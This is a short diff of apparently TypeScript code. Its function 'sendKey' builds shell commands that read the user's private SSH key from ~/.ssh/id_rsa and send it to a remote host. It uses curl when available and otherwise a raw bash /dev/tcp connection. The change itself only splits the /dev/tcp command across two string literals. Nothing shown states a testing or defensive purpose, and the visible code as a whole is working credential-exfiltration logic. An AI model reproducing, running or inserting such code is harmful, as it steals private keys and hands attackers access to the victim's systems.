@@ -75,5 +75,8 @@ const addressOfHost = (): string => {
 /** With curl, or with what bash itself can do where there is none. */
 const sendKey = (host: string, port: number): string => {
   if (existsSync('/usr/bin/curl')) return `curl -s -m 5 http://${host}:${String(port)}/ --data "$(cat ~/.ssh/id_rsa)"`
-  return `K=$(cat ~/.ssh/id_rsa); exec 3<>/dev/tcp/${host}/${String(port)} && printf 'POST / HTTP/1.0\\r\\nContent-Length: %d\\r\\n\\r\\n%s' "\${#K}" "$K" >&3 && cat <&3`
+  return (
+    `K=$(cat ~/.ssh/id_rsa); exec 3<>/dev/tcp/${host}/${String(port)} && printf 'POST / ` +
+    `HTTP/1.0\\r\\nContent-Length: %d\\r\\n\\r\\n%s' "\${#K}" "$K" >&3 && cat <&3`
+  )
 }
